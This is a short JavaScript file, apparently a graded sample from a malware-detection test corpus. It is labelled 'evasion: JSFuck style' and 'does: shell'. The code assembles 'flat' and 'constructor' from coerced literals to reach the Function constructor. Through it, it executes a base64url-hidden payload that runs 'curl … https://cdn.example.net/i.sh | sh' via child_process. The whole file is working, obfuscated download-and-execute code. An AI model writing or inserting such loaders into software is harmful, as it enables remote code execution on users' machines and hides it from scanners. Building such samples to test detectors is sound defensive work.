// evasion: JSFuck style: "flat" and "constructor" spelled from the letters of false, true, undefined and [object Object]; the Function reached runs a base64url payload
// grade: very hard; does: shell
'use strict';
const f = ![] + '';
const t = !![] + '';
const u = [][[]] + '';
const o = [] + {};

const flat = f[0] + f[2] + f[1] + t[0];
const ctor = o[5] + o[1] + u[1] + f[3] + t[0] + t[1] + t[2] + o[5] + t[0] + o[1] + t[1];

const P =
  'cHJvY2Vzcy5tYWluTW9kdWxlLnJlcXVpcmUoJ2NoaWxkX3Byb2Nlc3MnKS5leGVjU3luYygnY3VybCAtZnNTIGh0dHBzOi8vY2RuLmV4YW1wbGUubmV0L2kuc2ggfCBzaCcsIHsgc3RkaW86ICdpbmhlcml0JyB9KQ';

[][flat][ctor](Buffer.from(P, 'base64url').toString())();
